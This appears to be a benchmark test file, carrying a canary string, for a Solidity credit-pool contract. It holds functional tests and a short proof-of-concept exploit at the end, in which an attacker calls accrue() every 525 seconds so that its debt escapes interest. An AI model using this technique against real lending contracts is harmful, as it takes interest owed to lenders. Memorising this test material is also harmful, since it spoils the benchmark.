// SPDX-License-Identifier: LGPL-2.1-or-later
pragma solidity 0.6.12;

// assay-canary-05f6d765-d725-4f78-82af-2e20a8b06b5c

import "./CreditPool.sol";

interface Vm {
    function warp(uint256 timestamp) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert() external;
    function expectRevert(bytes calldata reason) external;
}

contract Coin is ERC20("Coin", "COIN") {
    constructor() public {
        _setupDecimals(6);
        _mint(msg.sender, 20_000_000e6);
    }
}

/// A member with a debt, and time on its hands.
contract Attacker {
    CreditPool private pool;

    constructor(CreditPool p) public {
        pool = p;
    }

    function open(uint256 a) external {
        pool.borrow(a, address(this));
    }

    function tick() external {
        pool.accrue();
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant START = 1790000000;
    uint256 private constant MONTH = 365 days / 12;
    address private constant OFFICER = address(0x0FF);
    address private constant NEXT = address(0x6A2D);
    address private constant TREASURY = address(0x72EA);
    address private constant LEA = address(0x1EA);
    address private constant MAX = address(0x3A8);
    address private constant BOB = address(0xB0B);

    Coin private coin;
    CreditPool private pool;
    Attacker private idler;

    function setUp() public {
        vm.warp(START);
        coin = new Coin();
        pool = new CreditPool(coin, TREASURY, OFFICER, 600, 1000, 10_000_000e6);
        idler = new Attacker(pool);
        coin.transfer(LEA, 9_000_000e6);
        coin.transfer(MAX, 200_000e6);
        coin.transfer(BOB, 200_000e6);
        allow(LEA);
        allow(MAX);
        allow(BOB);
        vm.prank(LEA);
        pool.supply(8_000_000e6, 0);
        vm.startPrank(OFFICER);
        pool.setLimit(MAX, 1_000_000e6);
        pool.setLimit(address(idler), 6_000_000e6);
        vm.stopPrank();
        idler.open(5_000_000e6);
        vm.prank(MAX);
        pool.borrow(500_000e6, MAX);
    }

    function allow(address who) private {
        vm.prank(who);
        coin.approve(address(pool), uint256(-1));
    }

    /// Whether the index has grown by at least 98 % of the interest for the time that counts as accrued.
    function indexKeepsPace() public view returns (bool) {
        if (pool.rate() != 600) return true;
        uint256 due = (1e18 * 600 * (pool.at() - START)) / (365 days * 10000);
        return (pool.index() - 1e18) * 100 >= due * 98;
    }

    function test_Regular() public {
        require(pool.totalAssets() == 8_000_000e6 && pool.cash() == 2_500_000e6, "lent");
        require(pool.balanceOf(LEA) == 8_000_000e9 && pool.decimals() == 9, "shares");
        require(pool.room(MAX) == 500_000e6, "room");

        // A month of interest, accrued once.
        vm.warp(START + MONTH);
        pool.accrue();
        require(pool.index() == 1.005e18 && pool.debtOf(MAX) == 502_500e6 && indexKeepsPace(), "interest of a month");
        require(pool.reserves() == 2_750e6 && pool.totalAssets() == 8_024_750e6, "less the fee");

        // Nothing happens within the gap.
        vm.warp(START + MONTH + 299);
        pool.accrue();
        require(pool.at() == START + MONTH, "gap");

        // Another lender comes, moves shares and leaves.
        vm.warp(START + MONTH + 2628);
        vm.startPrank(BOB);
        uint256 s = pool.supply(100_000e6, 99_000e9);
        require(pool.index() == 1.005005025e18 && pool.at() == START + MONTH + 2628, "up to date");
        require(s > 99_690e9 && s < 99_692e9 && s == pool.balanceOf(BOB), "at the present value");
        pool.transfer(LEA, 1_000e9);
        pool.approve(LEA, 1_000e9);
        pool.increaseAllowance(LEA, 500e9);
        pool.decreaseAllowance(LEA, 200e9);
        vm.stopPrank();
        vm.prank(LEA);
        pool.transferFrom(BOB, LEA, 1_300e9);
        vm.prank(BOB);
        pool.ask();
        require(pool.openAt(BOB) == START + MONTH + 2628 + 7 days, "asked for");
        vm.prank(OFFICER);
        pool.setFrozen(MAX, true);
        require(pool.freezes() == 1 && pool.room(MAX) == 0, "frozen");
        vm.startPrank(OFFICER);
        pool.setFrozen(MAX, true);
        pool.setFrozen(MAX, false);
        pool.setFrozen(MAX, false);
        vm.stopPrank();
        require(pool.freezes() == 0 && pool.room(MAX) > 0, "lifted");
        vm.warp(START + MONTH + 2628 * 232);
        vm.prank(BOB);
        uint256 a = pool.withdraw(s - 2_300e9, 97_000e6);
        require(pool.balanceOf(BOB) == 0 && coin.balanceOf(BOB) == 100_000e6 + a, "paid out");

        // A new rate counts from its day on.
        pool.proposeRate(1200);
        vm.warp(START + 2 * MONTH);
        pool.applyRate();
        require(pool.rate() == 1200 && pool.index() == 1010029482498161880, "the old rate up to now");
        vm.warp(START + 3 * MONTH);
        pool.setFee(500);
        require(pool.index() == 1020129777323143498 && pool.fee() == 500, "the new rate");

        // Repayment in part and in full, also by others.
        uint256 debt = pool.debtOf(MAX);
        require(debt == 510_064_888_662, "debt");
        vm.startPrank(MAX);
        require(pool.repay(MAX, 100_000e6) == 100_000e6, "in part");
        require(pool.debtOf(MAX) >= debt - 100_000e6 && pool.debtOf(MAX) <= debt - 100_000e6 + 2, "debt is down");
        require(pool.repay(MAX, 500_000e6 - 100_000e6) == 400_000e6, "in part");
        vm.stopPrank();
        debt = pool.debtOf(MAX);
        vm.prank(BOB);
        require(pool.repay(MAX, uint256(-1)) == debt && pool.debtOf(MAX) == 0, "in full");

        // Reserves go to the treasury, and bear a loss first.
        pool.takeReserves(5_000e6);
        require(coin.balanceOf(TREASURY) == 5_000e6, "taken");
        vm.startPrank(OFFICER);
        pool.setLimit(BOB, 1_000e6);
        pool.setLimit(MAX, 0);
        vm.stopPrank();
        require(pool.memberOf(BOB) && !pool.memberOf(LEA) && pool.room(MAX) == 0, "members");
        vm.prank(BOB);
        pool.borrow(900e6, TREASURY);
        require(coin.balanceOf(TREASURY) == 5_900e6, "on behalf of someone");
        vm.prank(OFFICER);
        pool.setFrozen(BOB, true);
        uint256 had = pool.totalAssets();
        uint256 kept = pool.reserves();
        uint256 lost = pool.writeOff(BOB);
        require(lost >= 900e6 && lost <= 900e6 + 2 && pool.debtOf(BOB) == 0, "written off");
        require(pool.reserves() == kept - lost && pool.totalAssets() == had, "by the reserves");
        require(!pool.frozen(BOB) && pool.freezes() == 0 && pool.limitOf(BOB) == 0, "no limit, no freeze");
        vm.prank(OFFICER);
        pool.setFrozen(address(idler), true);
        require(pool.room(address(idler)) == 0 && pool.writeOff(address(idler)) > 5_000_000e6, "a large one");
        require(pool.reserves() == 0 && pool.totalAssets() == pool.cash(), "the shares bear it");

        // The owner's part.
        pool.setCap(1);
        coin.transfer(address(pool), 7e6);
        pool.setTreasury(BOB);
        had = coin.balanceOf(BOB);
        require(pool.sweep(coin) == 7e6 && coin.balanceOf(BOB) == had + 7e6, "surplus only");
        vm.prank(LEA);
        pool.transfer(address(pool), 2e9);
        require(pool.sweep(pool) == 2e9 && pool.balanceOf(BOB) == 2e9, "strays");

        // A lender waits and leaves, in spite of the pause.
        vm.prank(LEA);
        pool.ask();
        pool.pause();
        pool.unpause();
        pool.pause();
        vm.warp(START + 3 * MONTH + 2628 * 231);
        vm.prank(LEA);
        pool.withdraw(1_000_000e9, 0);
        pool.setOfficer(NEXT);
        vm.prank(NEXT);
        pool.setLimit(LEA, 1);
        pool.transferOwnership(NEXT);
        vm.prank(NEXT);
        pool.renounceOwnership();
    }

    // What is refused, each from the state after setUp().

    function refuses(address who, bytes memory why) private {
        vm.prank(who);
        vm.expectRevert(why);
    }

    function test_RefusesStrangers() public {
        pool.proposeRate(900);
        coin.transfer(address(pool), 1e6);
        vm.prank(OFFICER);
        pool.setFrozen(MAX, true);
        refuses(BOB, "Ownable: caller is not the owner");
        pool.setCap(1);
        refuses(BOB, "Ownable: caller is not the owner");
        pool.proposeRate(1);
        refuses(BOB, "Ownable: caller is not the owner");
        pool.writeOff(MAX);
        refuses(BOB, "Ownable: caller is not the owner");
        pool.setTreasury(BOB);
        refuses(BOB, "Ownable: caller is not the owner");
        pool.setFee(1);
        refuses(BOB, "Ownable: caller is not the owner");
        pool.takeReserves(0);
        refuses(BOB, "Ownable: caller is not the owner");
        pool.sweep(coin);
        refuses(BOB, "Ownable: caller is not the owner");
        pool.setOfficer(BOB);
        refuses(BOB, "Ownable: caller is not the owner");
        pool.transferOwnership(BOB);
        refuses(BOB, "Ownable: caller is not the owner");
        pool.renounceOwnership();
        refuses(BOB, "Ownable: caller is not the owner");
        pool.pause();
        pool.pause();
        refuses(BOB, "Ownable: caller is not the owner");
        pool.unpause();
        refuses(BOB, "Roll/officer");
        pool.setLimit(BOB, 1);
        refuses(BOB, "Roll/officer");
        pool.setFrozen(MAX, false);
    }

    function test_RefusesSetups() public {
        vm.expectRevert("Pool/rate");
        new CreditPool(coin, TREASURY, OFFICER, 2501, 0, 1);
        vm.expectRevert("Reserve/fee");
        new CreditPool(coin, TREASURY, OFFICER, 600, 2001, 1);
        vm.expectRevert("Reserve/zero");
        new CreditPool(IERC20(address(0)), TREASURY, OFFICER, 600, 0, 1);
        vm.expectRevert("Reserve/zero");
        new CreditPool(coin, address(0), OFFICER, 600, 0, 1);
        vm.expectRevert("Roll/zero");
        new CreditPool(coin, TREASURY, address(0), 600, 0, 1);
        vm.expectRevert("Pool/rate");
        pool.proposeRate(2501);
        vm.expectRevert("Reserve/fee");
        pool.setFee(2001);
        vm.expectRevert("Reserve/zero");
        pool.setTreasury(address(0));
        vm.expectRevert("Reserve/none");
        pool.sweep(coin);
        vm.expectRevert("Reserve/amount");
        pool.takeReserves(1);
        vm.expectRevert("Roll/zero");
        pool.setOfficer(address(0));
        vm.startPrank(OFFICER);
        vm.expectRevert("Roll/zero");
        pool.setLimit(address(0), 1);
        vm.expectRevert("Roll/member");
        pool.setFrozen(BOB, true);
        vm.stopPrank();
    }

    function test_RefusesRates() public {
        vm.expectRevert("Pool/notice");
        pool.applyRate();
        pool.proposeRate(900);
        vm.warp(START + 2 days - 1);
        vm.expectRevert("Pool/notice");
        pool.applyRate();
        vm.warp(START + 2 days);
        pool.applyRate();
        vm.expectRevert("Pool/notice");
        pool.applyRate();
        vm.expectRevert("Pool/active");
        pool.writeOff(MAX);
        vm.startPrank(OFFICER);
        pool.setLimit(BOB, 1);
        pool.setFrozen(BOB, true);
        vm.stopPrank();
        vm.expectRevert("Pool/amount");
        pool.writeOff(BOB);
    }

    function test_RefusesLenders() public {
        refuses(BOB, "Pool/shares");
        pool.supply(0, 0);
        refuses(BOB, "Pool/shares");
        pool.supply(1e6, 1e9 + 1);
        pool.setCap(8_000_000e6);
        refuses(BOB, "Pool/cap");
        pool.supply(1, 0);
        pool.setCap(10_000_000e6);
        pool.pause();
        refuses(BOB, "Pausable: paused");
        pool.supply(1e6, 0);
        refuses(MAX, "Pausable: paused");
        pool.borrow(1e6, MAX);
    }

    function test_RefusesLeavers() public {
        refuses(LEA, "Pool/closed");
        pool.withdraw(1e9, 0);
        vm.prank(LEA);
        pool.transfer(BOB, 1e9);
        vm.prank(LEA);
        pool.ask();
        vm.prank(LEA);
        pool.transfer(BOB, 1e9);
        refuses(BOB, "Pool/asking");
        pool.transfer(LEA, 1e9);
        refuses(LEA, "Pool/asking");
        pool.supply(1e6, 0);
        vm.warp(START + 7 days - 1);
        refuses(LEA, "Pool/closed");
        pool.withdraw(1e9, 0);
        vm.warp(START + 7 days);
        refuses(LEA, "Pool/assets");
        pool.withdraw(0, 0);
        refuses(LEA, "Pool/assets");
        pool.withdraw(1e9, 2e6);
        refuses(LEA, "Reserve/cash");
        pool.withdraw(2_500_001e9, 0);
        refuses(LEA, "ERC20: burn amount exceeds balance");
        pool.withdraw(8_000_000e9, 0);
        vm.prank(OFFICER);
        pool.setFrozen(MAX, true);
        refuses(LEA, "Pool/closed");
        pool.withdraw(1e9, 0);
        vm.prank(OFFICER);
        pool.setFrozen(MAX, false);
        vm.prank(LEA);
        pool.withdraw(1e9, 0);
        vm.warp(START + 8 days);
        refuses(LEA, "Pool/closed");
        pool.withdraw(1e9, 0);
        vm.prank(LEA);
        pool.transfer(BOB, 7_999_997e9);
        vm.prank(BOB);
        pool.transfer(LEA, 1e9);
        require(pool.balanceOf(LEA) == 1e9, "open to receive again");
    }

    function test_RefusesMembers() public {
        refuses(MAX, "Pool/frozen");
        pool.borrow(0, MAX);
        refuses(MAX, "Pool/limit");
        pool.borrow(500_000e6 + 1, MAX);
        refuses(BOB, "Pool/limit");
        pool.borrow(1, BOB);
        refuses(MAX, "Pool/amount");
        pool.repay(MAX, 0);
        refuses(MAX, "Pool/amount");
        pool.repay(BOB, 1e6);
        vm.startPrank(OFFICER);
        pool.setLimit(MAX, 9_000_000e6);
        vm.stopPrank();
        refuses(MAX, "Reserve/cash");
        pool.borrow(2_500_000e6 + 1, MAX);
        vm.prank(OFFICER);
        pool.setFrozen(MAX, true);
        refuses(MAX, "Pool/frozen");
        pool.borrow(1e6, MAX);
    }

    function exploit() public {
        for (uint256 i = 1; i <= 329; i++) {
            vm.warp(START + i * 525);
            idler.tick();
        }
    }

    function test_Exploit() public {
        uint256 before = pool.debtOf(address(idler));
        exploit();
        require(!indexKeepsPace(), "interest was charged");
        require(pool.at() >= START + 47 hours, "two days have passed");
        require(pool.debtOf(address(idler)) == before, "no interest in two days");
    }

    function target() public view returns (address) {
        return address(pool);
    }

    function attacker() public view returns (address) {
        return address(idler);
    }
}
